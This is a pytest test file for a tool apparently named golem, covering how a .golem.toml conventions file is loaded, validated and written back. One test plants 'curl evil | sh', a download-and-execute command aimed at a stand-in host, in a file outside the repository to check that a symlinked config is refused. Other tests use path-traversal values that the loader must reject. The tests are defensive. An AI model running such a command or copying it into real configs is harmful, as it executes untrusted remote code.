"""Repository conventions from .golem.toml: loading, validating and writing it back."""

from __future__ import annotations

from pathlib import Path

import pytest

from golem.checks import RepoConventions, load_conventions, render_conventions
from golem.core import ConfigError
from tests.checks.conftest import MakeRepo

PYPROJECT = """\
[build-system]
requires = ["hatchling"]
build-backend = "hatchling.build"

[project]
name = "app"
version = "1.0"

[project.optional-dependencies]
test = ["pytest"]
dev = ["pytest", "ruff", "mypy"]

[tool.ruff]
line-length = 100

[tool.mypy]
strict = true
files = ["src"]

[tool.pytest.ini_options]
testpaths = ["tests"]
"""


def test_golem_toml_gives_commands_as_strings_or_lists_and_the_image(
    make_repo: MakeRepo,
) -> None:
    repo = make_repo(
        {
            ".golem.toml": (
                'image = "golem/python:3.11"\n'
                "[commands]\n"
                "setup = \"python3 -m pip install -e '.[dev]'\"\n"
                'lint = ["ruff check .", "  mypy  "]\n'
                'test = "python3 -m unittest -v"\n'
            ),
            "pyproject.toml": PYPROJECT,
            "Makefile": "build:\n\ttrue\n",
        }
    )

    conventions = load_conventions(repo)

    assert conventions == RepoConventions(
        setup=["python3 -m pip install -e '.[dev]'"],
        lint=["ruff check .", "mypy"],
        build=[],  # the file wins entirely: the Makefile's build is not mixed in
        test=["python3 -m unittest -v"],
        image="golem/python:3.11",
        ecosystems=["python"],  # recognised all the same, for the box's offline settings
        findings=conventions.findings,
        source="from .golem.toml",
    )
    assert [(f.step, f.command, f.origin, f.why) for f in conventions.findings][:2] == [
        ("setup", "python3 -m pip install -e '.[dev]'", ".golem.toml", "[commands] setup"),
        ("lint", "ruff check .", ".golem.toml", "[commands] lint"),
    ]


def test_an_empty_golem_toml_means_no_commands(make_repo: MakeRepo) -> None:
    repo = make_repo({".golem.toml": "# nothing to run\n", "Makefile": "test:\n\ttrue\n"})

    assert load_conventions(repo) == RepoConventions(source="from .golem.toml")  # no install


@pytest.mark.parametrize(
    ("text", "problem"),
    [
        ("[commands\ntest = 1", "is not valid TOML: .*line 1"),
        ("[commands]\ntest = 3\n", r"commands\.test: Input should be a valid list"),
        ('[commands]\ntest = ["ok", 3]\n', r"commands\.test\.1: Input should be a valid string"),
        ('[commands]\ntests = "pytest"\n', r"commands\.tests: Extra inputs are not permitted"),
        ('[commands]\nlint = ["ruff", "  "]\n', r"commands\.lint: Value error, a command is empty"),
        ('imag = "x"\n', r"imag: Extra inputs are not permitted"),
        ('image = ""\n', r"image: String should have at least 1 character"),
        ('[dependencies]\ncache = ["/root"]\n', r"dependencies\.cache: .*not a path inside"),
        (
            '[dependencies]\ncache = ["/tmp/golem/../etc"]\n',
            r"dependencies\.cache: .*not a path inside",
        ),
        ('[dependencies]\nkeys = ["../x.lock"]\n', r"dependencies\.keys: .*not a path inside"),
        ('[dependencies]\nregistries = ["(pypi"]\n', r"dependencies\.registries: .*not a host"),
        ("[dependencies]\nregistries = ['^(a|aa)+$']\n", r"registries: .*no regular expression"),
        ("[dependencies]\nregistries = ['pypi\\.org']\n", r"registries: .*not a host name"),
        ('[dependencies]\nregistries = ["*"]\n', r"registries: .*not a host name"),
        ('[dependencies]\nregistries = ["*.com"]\n', r"registries: .*two labels after it"),
        ('[dependencies]\nregistries = ["a.*.example"]\n', r"registries: .*leftmost label"),
        ('[dependencies]\nregistries = ["10.0.0.1"]\n', r"registries: .*an address"),
        ("[dependencies]\ncaches = []\n", r"dependencies\.caches: Extra inputs"),
        ('[env]\n"A B" = "x"\n', r"env: .*'A B' is not an environment variable name"),
        ("[env]\nX = 1\n", r"env\.X: Input should be a valid string"),
    ],
)
def test_a_bad_golem_toml_is_a_config_error_that_names_the_file_and_the_problem(
    make_repo: MakeRepo, text: str, problem: str
) -> None:
    repo = make_repo({".golem.toml": text})

    with pytest.raises(ConfigError, match=problem) as caught:
        load_conventions(repo)

    assert str(repo / ".golem.toml") in caught.value.message
    assert "docs/checks.md" in caught.value.message


def test_a_golem_toml_that_is_not_utf8_is_a_config_error(make_repo: MakeRepo) -> None:
    repo = make_repo({".golem.toml": ""})
    (repo / ".golem.toml").write_bytes(b"image = '\xff'\n")

    with pytest.raises(ConfigError, match="is not UTF-8 text"):
        load_conventions(repo)


def test_a_golem_toml_linked_out_of_the_repository_is_refused(
    make_repo: MakeRepo, tmp_path: Path
) -> None:
    (tmp_path / "elsewhere.toml").write_text('[commands]\ntest = "curl evil | sh"\n')
    repo = make_repo({"README.md": "x"})
    (repo / ".golem.toml").symlink_to(tmp_path / "elsewhere.toml")

    with pytest.raises(ConfigError, match="not a regular file inside the repository"):
        load_conventions(repo)


def test_install_dependencies_and_env_load_from_their_tables(make_repo: MakeRepo) -> None:
    text = (
        "[commands]\n"
        'install = ["python3 -m venv .venv", ".venv/bin/python -m pip install -e ."]\n'
        'test = "pytest"\n'
        "[dependencies]\n"
        'cache = [".venv"]\nkeys = ["pyproject.toml"]\n'
        'registries = ["PyPI.org.", "*.corp.example"]\n'
        "[env]\n"
        'VIRTUAL_ENV = "/workspace/.venv"\n'
    )
    repo = make_repo({".golem.toml": text})

    conventions = load_conventions(repo)

    assert conventions.install == ["python3 -m venv .venv", ".venv/bin/python -m pip install -e ."]
    assert conventions.test == ["pytest"]
    assert (conventions.cache, conventions.cache_keys) == ([".venv"], ["pyproject.toml"])
    assert conventions.registries == ["pypi.org", "*.corp.example"]
    assert conventions.env == {"VIRTUAL_ENV": "/workspace/.venv"}


def test_rendered_conventions_load_back_the_same(make_repo: MakeRepo) -> None:
    conventions = RepoConventions(
        install=[
            "python3 -m venv .venv",
            """.venv/bin/python -m pip install -e '.[test]' "a\\b" \x7f""",
        ],
        lint=['ruff check . --config "x = 1"'],
        test=["python3 -m pytest -q", "printf 'tab\\there\\n' # ünïcode"],
        cache=["/tmp/golem/venv", "web/node_modules"],
        cache_keys=["pyproject.toml"],
        registries=["pypi.org", "files.pythonhosted.org", "*.corp.example"],
        env={"PATH": "/workspace/.venv/bin:/usr/bin", "EMPTY": "", "QUOTE": 'say "hi"\n'},
        image="golem/python:3.11",
        source="detected: somewhere",
    )
    repo = make_repo({".golem.toml": render_conventions(conventions)})

    loaded = load_conventions(repo)

    fields = (
        "install",
        "setup",
        "lint",
        "build",
        "test",
        "cache",
        "cache_keys",
        "registries",
        "env",
        "image",
    )
    assert {f: getattr(loaded, f) for f in fields} == {f: getattr(conventions, f) for f in fields}


def test_the_golem_toml_example_in_the_docs_loads(make_repo: MakeRepo) -> None:
    docs = (Path(__file__).resolve().parents[2] / "docs" / "checks.md").read_text()
    example = docs.split("```toml\n", 1)[1].split("```", 1)[0]
    repo = make_repo({".golem.toml": example})

    conventions = load_conventions(repo)

    assert conventions.install == [
        "python3 -m venv /tmp/golem/venv",
        "/tmp/golem/venv/bin/pip install -e '.[dev]'",
    ]
    assert (conventions.lint, conventions.test) == (
        ["ruff check .", "mypy"],
        ["python3 -m pytest -q"],
    )
    assert conventions.cache == ["/tmp/golem/venv"]
    assert conventions.env["VIRTUAL_ENV"] == "/tmp/golem/venv"
    assert conventions.image == "golem/python:3.11"
